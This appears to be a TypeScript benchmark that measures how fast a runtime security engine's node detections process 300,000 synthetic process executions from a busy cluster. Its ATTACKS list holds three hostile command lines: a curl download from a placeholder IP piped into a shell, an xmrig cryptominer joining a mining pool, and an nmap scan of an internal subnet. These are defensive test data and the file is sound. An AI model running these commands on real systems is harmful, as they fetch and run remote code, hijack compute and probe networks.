/**
 * @module bench/node-detections
 * Throughput of every node detection together: an Engine with all of them (as the registry finds
 * them) fed 300,000 process executions of a busy cluster — web servers, JVMs, shells running
 * health checks and cron jobs, package installs, with a few attacks among them — measured in
 * events per second on one core, best of three rounds. Events are built before the clock starts.
 */
import { pathToFileURL } from 'node:url';
import { loadCatalog } from '../src/catalog/catalog.js';
import { discoverDetections } from '../src/detections/registry.js';
import { Engine } from '../src/engine/engine.js';
import { MemoryState } from '../src/engine/state/store.js';
import type { ProcessExecEvent } from '../src/events/model.js';
import { Indicators } from '../src/indicators/indicators.js';

const EVENTS = 300_000;
const ROUNDS = 3;

/** Command lines of an ordinary day, with a slot for a varying number; a few attacks (1 in 200). */
const BENIGN: readonly string[][] = [
  ['/opt/java/openjdk/bin/java', '-Xmx512m', '-jar', '/app/app-#.jar', '--server.port=8080'],
  ['/usr/bin/curl', '-s', '-o', '/dev/null', '-w', '%{http_code}', 'http://localhost:8080/healthz?n=#'],
  ['/bin/sh', '-c', 'curl -fs http://127.0.0.1:9090/-/ready || exit 1 # probe #'],
  ['/usr/sbin/nginx', '-g', 'daemon off;'],
  ['/usr/local/bin/python3', '/app/manage.py', 'process_queue', '--batch=#'],
  ['/bin/bash', '-c', 'cd /var/www && php artisan schedule:run >> /dev/null 2>&1; echo run-#'],
  ['/usr/bin/apt-get', 'install', '-y', '--no-install-recommends', 'ca-certificates', 'libpq5=#'],
  ['/usr/local/bin/node', '/srv/dist/server.js', '--port', '#'],
  ['/bin/cat', '/etc/config/app-#.yaml'],
  ['/usr/bin/git', 'clone', '--depth', '1', 'https://github.com/acme/service-#.git'],
  ['/usr/bin/wget', '-q', 'https://github.com/prometheus/node_exporter/releases/download/v1.8.#/node_exporter.tar.gz', '-O', '/opt/ne.tgz'],
  ['/bin/sh', '-c', 'ps aux | grep -v grep | grep worker-# | wc -l'],
  ['/usr/bin/pip', 'install', '--no-cache-dir', 'requests==2.32.#'],
  ['/usr/bin/tar', 'xzf', '/tmp/release-#.tgz', '-C', '/opt'],
  ['/usr/local/bin/helm', 'upgrade', '--install', 'web-#', 'oci://registry.example.com/charts/web'],
  ['/bin/sh', '-c', 'nohup java -jar app.jar > /var/log/app-#.log 2>&1 &'],
  ['/usr/bin/redis-cli', '-h', 'cache-redis-master', 'PING'],
  ['/bin/busybox', 'wget', '-q', '--spider', 'http://web.shop.svc.cluster.local:#/'],
];
const ATTACKS: readonly string[][] = [
  ['/bin/sh', '-c', 'curl -fsSL http://203.0.113.45/k#.sh | sh'],
  ['/tmp/xmrig', '-o', 'pool.supportxmr.com:3333', '-u', 'x#', '--donate-level', '1'],
  ['/usr/bin/nmap', '-sS', '-p-', '10.0.#.0/24'],
];

/** The benchmark's input (exported so that other tools can replay the same day). */
export function benchEvents(count = EVENTS): ProcessExecEvent[] {
  const out: ProcessExecEvent[] = [];
  const start = Date.parse('2026-03-14T09:00:00Z');
  for (let i = 0; i < count; i++) {
    const template = i % 200 === 199 ? ATTACKS[(i / 200) % ATTACKS.length | 0]! : BENIGN[(i * 7919) % BENIGN.length]!;
    const args = template.map((a) => a.replace('#', String(i % 977)));
    const container = `c${i % 64}`;
    const event: ProcessExecEvent = {
      kind: 'process.exec',
      id: `bench-${i}`,
      time: start + i * 5,
      source: 'vigil',
      node: `node-${i % 8}`,
      process: { pid: 10_000 + i, executable: args[0]!, args, commandLine: args.join(' '), cwd: '/app', uid: 0 },
      ancestors: [{ pid: 9_000, executable: '/bin/sh', args: ['/bin/sh'], commandLine: '/bin/sh' }],
      container: { id: container, name: 'app', namespace: `ns-${i % 16}`, pod: `pod-${i % 64}`, image: 'registry.example.com/app:1.0' },
    };
    // Decoded from JSON as a source hands it over: flat strings and plain objects, not the
    // concatenated strings built above, which the first reader would pay to flatten.
    out.push(JSON.parse(JSON.stringify(event)) as ProcessExecEvent);
  }
  return out;
}

export async function benchNodeDetections(): Promise<{
  name: string;
  events: number;
  seconds: number;
  eventsPerSecond: number;
  cpuSeconds: number;
  eventsPerCpuSecond: number;
  roundsEventsPerCpuSecond: number[];
  detectionsRunPerEvent: number;
}> {
  const detections = (await discoverDetections()).filter((d) => d.module.startsWith('node/')).map((d) => d.detection);
  const input = benchEvents();
  // Three rounds, each with a fresh engine over the same day, and the best reported: on a shared
  // machine one round can lose a third of its speed to neighbours (a CPU-only loop does not), so
  // the best round is the comparable figure; all rounds are printed.
  const rounds: { seconds: number; cpuSeconds: number; screened: number }[] = [];
  for (let round = 0; round < ROUNDS; round++) {
    const engine = new Engine({ detections, catalog: loadCatalog(), state: new MemoryState(), indicators: new Indicators() });
    // Warm up: indicator lists load and functions get compiled before the measured run.
    for (let i = 0; i < 2_000; i++) engine.process(input[i]!);
    const screenedBefore = engine.stats.screenedOut;
    const started = process.hrtime.bigint();
    const cpuStarted = process.cpuUsage();
    for (const event of input) engine.process(event);
    engine.flush();
    const seconds = Number(process.hrtime.bigint() - started) / 1e9;
    // CPU time as well: on a shared machine wall time also counts the time other processes had the core.
    const cpu = process.cpuUsage(cpuStarted);
    rounds.push({ seconds, cpuSeconds: (cpu.user + cpu.system) / 1e6, screened: engine.stats.screenedOut - screenedBefore });
  }
  const best = rounds.reduce((a, b) => (b.cpuSeconds < a.cpuSeconds ? b : a));
  return {
    name: `node detections (${detections.length}) on process.exec`,
    events: input.length,
    seconds: best.seconds,
    eventsPerSecond: Math.round(input.length / best.seconds),
    cpuSeconds: best.cpuSeconds,
    eventsPerCpuSecond: Math.round(input.length / best.cpuSeconds),
    roundsEventsPerCpuSecond: rounds.map((r) => Math.round(input.length / r.cpuSeconds)),
    // how many detections read an average exec once the screens have passed over it
    detectionsRunPerEvent: Math.round((detections.length - best.screened / input.length) * 10) / 10,
  };
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  console.log(JSON.stringify(await benchNodeDetections()));
}
